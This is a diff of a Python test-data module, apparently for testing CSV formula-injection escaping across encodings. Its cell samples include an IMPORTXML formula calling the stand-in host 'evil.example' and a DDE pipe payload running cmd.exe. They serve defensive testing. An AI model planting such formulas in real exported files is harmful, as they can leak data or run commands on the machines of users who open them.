@@ -8,7 +8,7 @@ CELLS = {
 	'ideographic-blank': '\u3000=1+1', 'no-break-blank': '\u00a0=1+1', 'bom': '\ufeff=1+1', 'zero-width': '\u200b=1+1', 'quoted-quote': '"=1+1', 'line-inside': 'x\n=1+1', 'import': '=IMPORTXML("http://evil.example/","//x")', 'pipe': "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
 	'percent': '%0A=1+1', 'semicolon': ';=1+1', 'equals-only': '=', 'equals-text': '=Ａ１', 'array': '{=1+1}', 'minus-equals': '-=1', 'nul': '\0=1+1', 'control': '\x01=1+1',
 }
-SAFE = {'percent', 'array', 'equals-only', 'quoted-quote'}  # whichever way they come out
+SAFE = {'percent', 'semicolon', 'array', 'equals-only', 'quoted-quote'}  # whichever way they come out
 # numbers and words that only look alike: they stay as they are
 HARMLESS = {'negative': '-12', 'plus-number': '+3.5', 'thousands': '-1,234', 'percent': '-5%', 'phone': '+81-3-1234-5678', 'dash': '-', 'mail': 'a@example.jp', 'middle': 'a=b', 'exponent': '-1.5E+10', 'date': '2024-04-01'}
 ENCODINGS = {'utf-8': '', 'utf-8-sig': '', 'utf-16': '', 'utf-16-le': '\ufeff', 'utf-16-be': '\ufeff', 'cp932': '', 'euc-jp': '', 'iso2022-jp': ''}
@@ -31,7 +31,9 @@ def table(cell, separator=',', always=False, newline='\r\n', last=True):
 
 
 def encoded(make, encoding, before=''):
-	return lambda mark, keep: (before + make(mark, keep)).encode(encoding, 'replace')
+	# the minus of JIS X 0208 is another character to these codecs than to Windows; the bytes are the same
+	jis = encoding in ('euc-jp', 'iso2022-jp')
+	return lambda mark, keep: (before + make(mark, keep).replace('－' if jis else '\0\0', '−')).encode(encoding, 'replace')
 
 
 def samples():
